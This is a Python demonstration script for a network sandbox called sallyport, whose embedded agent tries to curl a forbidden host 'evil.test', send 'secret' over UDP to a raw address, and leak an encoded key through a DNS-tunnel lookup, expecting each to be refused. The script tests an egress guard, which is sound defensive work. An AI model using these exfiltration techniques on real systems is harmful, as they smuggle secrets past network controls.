# SPDX-License-Identifier: Apache-2.0
"""The demonstration behind deploy/try."""
import os
import subprocess
import sys
import tempfile

TOP = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
BINARY = os.environ.get("SALLYPORT_BINARY", TOP + "/build/sallyport")
sys.path.insert(0, os.path.join(TOP, "tests", "system"))
from lab import Lab  # noqa: E402

# What runs in the sandbox: only what any script could do.
AGENT = r'''
import os, socket, subprocess

def curl(url, *more, **env):
    out = subprocess.run(["curl", "-s", "-S", "-m", "10", *more, url],
                         capture_output=True, text=True,
                         env=dict(os.environ, **env))
    text = (out.stdout + out.stderr).strip().splitlines()
    return text[0] if text else f"exit {out.returncode}"

def tcp(address, port):
    s = socket.socket(); s.settimeout(10)
    try:
        s.connect((address, port))
        return "connected"
    except OSError as e:
        return e.strerror or str(e)

def udp(address, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
    try:
        s.connect((address, port)); s.send(b"secret"); s.recv(1)
        return "answered"
    except OSError as e:
        return e.strerror or str(e)

def lookup(name):
    try:
        return socket.gethostbyname(name)
    except OSError as e:
        return e.strerror or str(e)

DIRECT = dict(https_proxy="", HTTPS_PROXY="", all_proxy="", ALL_PROXY="")
rows = [
    ("an allowed host, by the proxy", "reached",
     curl("https://allowed.test/")),
    ("the same, without proxy variables", "reached",
     curl("https://allowed.test/", **DIRECT)),
    ("a host that is not allowed", "refused",
     curl("https://evil.test/")),
    ("a raw address", "refused", tcp("8.8.8.8", 443)),
    ("a UDP packet", "refused", udp("8.8.8.8", 9999)),
    ("a DNS tunnel", "refused", lookup("c2VjcmV0LWtleQ.evil.test")),
]
print(f"{'tried':36}{'expected':10}what happened")
for row in rows:
    print(f"{row[0]:36}{row[1]:10}{row[2]}", flush=True)
reached = ["hello" in row[2] for row in rows]
raise SystemExit(reached != [True, True, False, False, False, False])
'''


def as_caller():
    """Who called sudo; plain root stays root."""
    uid, gid = os.environ.get("SUDO_UID"), os.environ.get("SUDO_GID")
    if uid and uid != "0":
        return ["setpriv", "--reuid", uid, "--regid", gid or uid,
                "--clear-groups"]
    return []


def main():
    argv = sys.argv[2:] if sys.argv[1:2] == ["--"] else sys.argv[1:]
    logs = tempfile.mkdtemp(prefix="sallyport-try-")
    drop = as_caller()
    if drop:
        os.chown(logs, int(os.environ["SUDO_UID"]),
                 int(os.environ.get("SUDO_GID", os.environ["SUDO_UID"])))
    work = tempfile.mkdtemp(prefix="sallyport-work-")
    os.chmod(work, 0o777)
    with Lab() as lab:
        with open(lab.ca) as f, open(work + "/ca.pem", "w") as g:
            g.write(f.read())
        env = dict(os.environ, **lab.trust(work + "/ca.pem"))
        command = argv or ["python3", "-c", AGENT]
        status = subprocess.run(
            [*drop, BINARY, "run", "--allow", "allowed.test",
             "--log", logs, "--", *command], cwd=work, env=env).returncode
        seen = lab.evil()
        print("\npackets that the forbidden hosts saw:", len(seen))
        for line in seen:
            print("  " + line)
        print("\nwhat the log can prove:", flush=True)
        subprocess.run([*drop, BINARY, "verify", logs], check=False)
    subprocess.run(["rm", "-rf", work], check=False)
    return status if not seen else 1


if __name__ == "__main__":
    sys.exit(main())
